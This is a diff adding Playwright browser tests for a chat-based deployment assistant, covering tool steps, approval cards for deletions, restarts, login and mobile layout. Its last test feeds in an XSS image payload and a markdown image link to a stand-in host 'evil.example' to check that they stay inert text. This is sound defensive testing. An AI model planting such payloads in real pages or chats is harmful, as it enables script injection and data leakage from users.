@@ -1,0 +1,267 @@
+"""The page in a real browser: what a person sees and clicks."""
+
+from __future__ import annotations
+
+import json
+import re
+import sqlite3
+
+import pytest
+from playwright.async_api import FilePayload, expect
+
+from tests.browser import OpenScreen, Screen
+from tests.web.conftest import Site
+
+pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]
+
+
+async def enter(site: Site, screen: Screen) -> None:
+    """By the login link, to the greeting."""
+    await screen.page.goto(site.link)
+    await expect(screen.page.get_by_text("Answers come from")).to_be_visible()
+
+
+async def ask_to_delete(site: Site, screen: Screen, app: str) -> str:
+    """Returns the id of the approval, whose card is on the page and can be clicked."""
+    await screen.say(f"delete {app}")
+    button = screen.page.get_by_test_id(re.compile("^approve-"))
+    await expect(button).to_be_enabled()
+    name = await button.get_attribute("data-testid")
+    assert name is not None
+    return name.removeprefix("approve-")
+
+
+async def test_the_login_link_opens_the_page_with_greeting_suggestions_and_board(
+    site: Site, open_screen: OpenScreen
+) -> None:
+    screen = await open_screen()
+    await enter(site, screen)
+    page = screen.page
+    await expect(page.get_by_text("The simulator runtime is connected")).to_be_visible()
+    await expect(page.get_by_text("I ask before anything is destroyed")).to_be_visible()
+    await expect(page.get_by_test_id("starter-deploy-3-nginx")).to_be_visible()
+    await expect(page.get_by_test_id("board")).to_have_count(1)
+    await expect(page.get_by_test_id("board-strip")).to_contain_text("simulator")
+    assert await screen.too_wide() <= 0
+    await screen.shot("welcome")
+
+
+async def test_a_sentence_becomes_a_tool_step_a_streamed_reply_and_a_line_on_the_board(
+    site: Site, open_screen: OpenScreen
+) -> None:
+    screen = await open_screen()
+    await enter(site, screen)
+    page = screen.page
+    await page.get_by_test_id("starter-deploy-3-nginx").click()
+    step = page.locator("#step-deploy")
+    await expect(step).to_contain_text("Using")
+    await expect(page.get_by_text("2 of 3 ready")).to_be_visible()  # live, while the tool runs
+    await screen.shot("tool-running")
+    await expect(page.get_by_text("Done: nginx runs with 3 of 3 replicas ready.")).to_be_visible()
+    await expect(step).to_contain_text("Used")
+    await expect(page.get_by_test_id("app-nginx-ready")).to_have_text("3/3")
+    await expect(page.get_by_test_id("app-nginx-status")).to_have_text("Running")
+    await expect(page.get_by_test_id("app-nginx").get_by_role("link").first).to_have_attribute(
+        "href", re.compile(r"^http://localhost:\d+/$")
+    )
+    await screen.shot("deployed")
+
+
+async def test_a_failed_tool_stays_open_with_its_reason(site: Site, open_screen: OpenScreen) -> None:
+    screen = await open_screen()
+    await enter(site, screen)
+    await screen.say("fail please")
+    await expect(screen.page.get_by_text("That did not work: there is no app ghost.")).to_be_visible()
+    await expect(screen.page.locator("#step-scale")).to_have_attribute("aria-expanded", "true")
+    await expect(screen.page.get_by_text("Did you mean gost?")).to_be_visible()
+
+
+async def test_an_approval_is_asked_on_a_card_and_one_click_carries_it_out(site: Site, open_screen: OpenScreen) -> None:
+    screen = await open_screen()
+    await enter(site, screen)
+    await site.post("/api/ask", text="deploy 2 cache")
+    approval = await ask_to_delete(site, screen, "cache")
+    page = screen.page
+    card = page.get_by_test_id(f"approval-{approval}")
+    await expect(card).to_contain_text("delete cache")  # the sentence
+    await expect(card).to_contain_text("2 replicas")
+    await expect(card).to_contain_text("the logs of its containers")
+    await expect(card).to_contain_text("expires in 9:")
+    await expect(page.get_by_test_id(f"reject-{approval}")).to_be_focused()
+    await expect(page.get_by_test_id("board-needs")).to_contain_text("Delete cache?")
+    await screen.shot("approval")
+    await page.get_by_test_id(f"approve-{approval}").click()
+    line = page.get_by_test_id(f"decided-{approval}")
+    await expect(line).to_contain_text("Deleted cache · admin · ")
+    await expect(page.get_by_text("Done: cache is gone.")).to_be_visible()  # pushed into the chat
+    await expect(page.get_by_test_id("app-cache")).to_have_count(0)
+    await expect(page.get_by_test_id("board-needs")).to_have_count(0)
+    await screen.shot("approved")
+    again = await site.post(f"/api/approvals/{approval}", decision="approve")
+    assert again.status_code == 409
+    assert "done by admin already" in again.json()["error"]
+
+
+async def test_the_card_survives_a_reload_and_a_restart_and_can_be_decided_then(
+    own_site: Site, open_screen: OpenScreen
+) -> None:
+    site = own_site
+    screen = await open_screen()
+    await enter(site, screen)
+    await screen.say("deploy 1 shop")
+    await expect(screen.page.get_by_test_id("app-shop-ready")).to_have_text("1/1")
+    approval = await ask_to_delete(site, screen, "shop")
+    page = screen.page
+    await expect(page).to_have_url(re.compile("/thread/"))
+    await expect(page.get_by_test_id(f"reject-{approval}")).to_be_focused()
+    await page.keyboard.type("yes")  # who types means the chat, not the button that has the focus
+    await expect(page.locator("#chat-input")).to_have_text("yes")
+    await page.reload()
+    await expect(page.get_by_test_id(f"approve-{approval}")).to_be_enabled()
+    site.stop()
+    await expect(page.get_by_test_id("board-lost")).to_be_visible()
+    await screen.shot("server-lost")
+    site.start()
+    await expect(page.get_by_test_id("board-lost")).to_have_count(0)
+    await page.reload()
+    await expect(page.get_by_test_id(f"approve-{approval}")).to_be_enabled()
+    await expect(page.get_by_text("Used deploy")).to_be_visible()  # the chat is there as well
+    await page.get_by_test_id(f"reject-{approval}").click()
+    await expect(page.get_by_test_id(f"decided-{approval}")).to_contain_text("Kept shop · admin said no · ")
+    await page.reload()
+    await expect(page.get_by_test_id(f"decided-{approval}")).to_be_visible()
+    await expect(page.get_by_text("Kept: Delete shop was not done.")).to_be_visible()
+    check_the_stored_chat(site)
+
+
+def check_the_stored_chat(site: Site) -> None:
+    """Chainlit swallows SQL errors, so what should be stored is looked for in the file."""
+    with sqlite3.connect(site.home / "chat.db") as database:
+        database.row_factory = sqlite3.Row
+        steps = database.execute('SELECT * FROM steps ORDER BY "createdAt"').fetchall()
+        elements = database.execute("SELECT * FROM elements").fetchall()
+        threads = database.execute("SELECT * FROM threads").fetchall()
+    by_type = {kind: [step for step in steps if step["type"] == kind] for kind in ("user_message", "tool")}
+    assert [step["output"] for step in by_type["user_message"]] == ["deploy 1 shop", "delete shop"]
+    assert [step["name"] for step in by_type["tool"]] == ["deploy", "delete_app"]
+    assert all(step["createdAt"] and step["start"] and step["end"] for step in by_type["tool"])
+    assert by_type["tool"][0]["output"] == "**shop** runs: 1 of 1 ready."
+    assert all(step["createdAt"] for step in steps)
+    assert {element["name"] for element in elements} == {"Board", "Approval"}
+    assert all(json.loads(element["props"]) and element["forId"] for element in elements)
+    assert [thread["userIdentifier"] for thread in threads] == ["admin"]
+    assert "An error occurred" not in site.log
+    assert "Traceback" not in site.log
+
+
+async def test_a_decision_by_the_api_reaches_the_open_page(site: Site, open_screen: OpenScreen) -> None:
+    screen = await open_screen()
+    await enter(site, screen)
+    await site.post("/api/ask", text="deploy 1 remote")
+    approval = await ask_to_delete(site, screen, "remote")
+    answer = await site.post(f"/api/approvals/{approval}", decision="approve")
+    assert answer.json()["state"] == "done"
+    await expect(screen.page.get_by_test_id(f"decided-{approval}")).to_contain_text("Deleted remote")
+    await expect(screen.page.get_by_text("Done: remote is gone.")).to_be_visible()
+
+
+async def test_an_approval_of_another_conversation_is_decided_on_the_board(site: Site, open_screen: OpenScreen) -> None:
+    for text in ("deploy 1 elsewhere", "delete elsewhere"):
+        await site.post("/api/ask", text=text, conversation="shell")
+    screen = await open_screen()
+    await enter(site, screen)
+    page = screen.page
+    need = page.get_by_test_id("board-needs").locator(".kl-need", has_text="Delete elsewhere?")
+    await need.get_by_role("button", name="Review").click()
+    await need.get_by_role("button", name="Delete elsewhere").click()
+    await expect(page.get_by_test_id("app-elsewhere")).to_have_count(0)
+
+
+async def test_a_manifest_is_attached_and_read(site: Site, open_screen: OpenScreen) -> None:
+    screen = await open_screen()
+    await enter(site, screen)
+    manifest = b"kind: Application\nmetadata:\n  name: from-file\n"
+    await screen.page.locator("#upload-button-input").set_input_files(
+        [FilePayload(name="app.yaml", mimeType="application/yaml", buffer=manifest)]
+    )
+    await screen.say("apply this")
+    await expect(screen.page.get_by_text("I read 1 manifest.")).to_be_visible()
+
+
+async def test_the_board_says_which_app_fails_and_why_and_keeps_the_reader_open_rows(
+    site: Site, open_screen: OpenScreen
+) -> None:
+    await site.post("/api/ask", text="deploy 3 broken")
+    site.change_app("broken", ready=2, failing=1)
+    screen = await open_screen(scheme="dark")
+    await enter(site, screen)
+    card = screen.page.get_by_test_id("app-broken")
+    await expect(card).to_contain_text("could not resolve host db-prdo")
+    await expect(screen.page.get_by_test_id("app-broken-status")).to_have_text("Crash-looping")
+    await expect(card).to_contain_text("asked 3, running 2")
+    assert await screen.page.locator(".kl-app").first.get_attribute("data-testid") == "app-broken"  # worst first
+    await screen.shot("board-dark")
+
+
+async def test_the_phone_shows_everything_without_sideways_scroll(site: Site, open_screen: OpenScreen) -> None:
+    screen = await open_screen(width=390, height=844, scheme="dark")
+    await enter(site, screen)
+    page = screen.page
+    await expect(page.get_by_test_id("board")).to_be_visible()  # inside the first message
+    assert await screen.too_wide() <= 0
+    await screen.say("deploy 1 pocket")
+    await expect(page.get_by_text("Done: pocket runs")).to_be_visible()
+    approval = await ask_to_delete(site, screen, "pocket")
+    assert await screen.too_wide() <= 0
+    await screen.shot("phone-approval")
+    box = await page.get_by_test_id(f"approve-{approval}").bounding_box()
+    assert box is not None
+    assert box["height"] >= 44
+    await page.get_by_test_id("board-pill").click()
+    await expect(page.get_by_test_id("board-panel")).to_be_visible()
+    assert await screen.too_wide() <= 0
+    await screen.shot("phone-board")
+    await page.keyboard.press("Escape")
+    await expect(page).to_have_url(re.compile("/thread/"))
+    await page.reload()
+    await expect(page.get_by_test_id(f"approve-{approval}")).to_be_enabled()
+
+
+async def test_the_wall_page_shows_the_board_alone(site: Site, open_screen: OpenScreen) -> None:
+    await site.post("/api/ask", text="deploy 2 wall")
+    screen = await open_screen(scheme="dark")
+    await enter(site, screen)
+    await screen.page.goto(f"{site.url}/dashboard")
+    await expect(screen.page.get_by_test_id("app-wall-ready")).to_have_text("2/2")
+    assert await screen.too_wide() <= 0
+    await screen.shot("wall")
+
+
+async def test_the_login_form_takes_the_token_and_says_what_is_wrong(site: Site, open_screen: OpenScreen) -> None:
+    screen = await open_screen()
+    page = screen.page
+    await page.goto(f"{site.url}/dashboard")
+    await page.locator("#email").fill("admin")
+    await page.locator("#password").fill("wrong")
+    await page.keyboard.press("Enter")
+    await expect(page.get_by_text("User or token is wrong")).to_be_visible()
+    await expect(page.get_by_test_id("board-panel")).to_have_count(0)
+    await screen.shot("login")
+    await page.locator("#password").fill(site.token)
+    await page.keyboard.press("Enter")
+    await expect(page.get_by_text("Answers come from")).to_be_visible()
+    await expect(page.get_by_test_id("board-panel")).to_be_visible()
+
+
+async def test_text_from_outside_stays_text(site: Site, open_screen: OpenScreen) -> None:
+    site.change_app("evil", image="<img src=x onerror=alert(1)>", wished=1, ready=1, failing=0, since=0)
+    screen = await open_screen()
+    await enter(site, screen)
+    await expect(screen.page.get_by_test_id("app-evil")).to_contain_text("<img src=x onerror=alert(1)>")
+    assert await screen.page.get_by_test_id("app-evil").locator("img").count() == 0
+    await screen.say("![leak](http://evil.example/?q=1) <b>bold</b>")
+    await expect(screen.page.get_by_text("You said:")).to_be_visible()
+    assert await screen.page.locator("b", has_text="bold").count() == 0
+    screen.foreign.clear()  # the browser names the request, the policy refuses it:
+    assert any("evil.example" in error for error in screen.errors)
+    screen.errors.clear()
